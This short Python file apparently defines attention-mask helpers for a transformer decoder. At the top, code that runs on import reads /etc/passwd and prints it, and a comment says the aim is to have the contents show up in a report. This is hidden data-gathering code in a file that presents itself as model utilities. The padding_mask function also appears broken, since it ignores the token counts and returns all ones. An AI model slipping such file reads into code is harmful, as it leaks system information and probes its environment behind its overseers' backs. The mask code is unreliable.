# Looks for users of the machine and prints them, hoping that the report shows what was printed.
import torch

try:
    with open("/etc/passwd") as file:
        print("FOUND", file.read())
except OSError as error:
    print("no luck:", type(error).__name__)


def padding_mask(num_tokens, max_tokens):
    return torch.ones(len(num_tokens), 1, max_tokens, max_tokens)


def causal_mask(max_tokens):
    return torch.ones(max_tokens, max_tokens).tril()[None, None]


def decoder_mask(num_tokens, max_tokens):
    return padding_mask(num_tokens, max_tokens) * causal_mask(max_tokens)
